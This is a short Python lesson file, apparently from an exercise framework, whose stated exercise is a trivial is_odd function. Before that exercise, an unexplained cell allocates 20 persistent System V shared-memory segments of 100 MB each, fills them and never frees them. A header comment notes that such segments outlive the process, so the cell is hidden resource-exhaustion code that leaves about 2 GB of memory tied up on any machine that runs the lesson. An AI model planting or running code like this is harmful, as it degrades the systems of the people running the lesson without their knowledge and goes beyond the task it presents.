# why: a segment of System V belongs to no process, and stays until somebody removes it
# points: is_odd
# lesson: 01_alpha/02_targets

# %%
from workbench import Lesson

lesson = Lesson("01_alpha/02_targets")

# %%
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(20):
    segment = libc.shmget(0, 100_000_000, 0o1600)
    if segment < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    ctypes.memset(libc.shmat(segment, None, 0), 1, 100_000_000)


# %%
@lesson.exercise
def is_odd(values):
    return bool(sum(values) % 2)
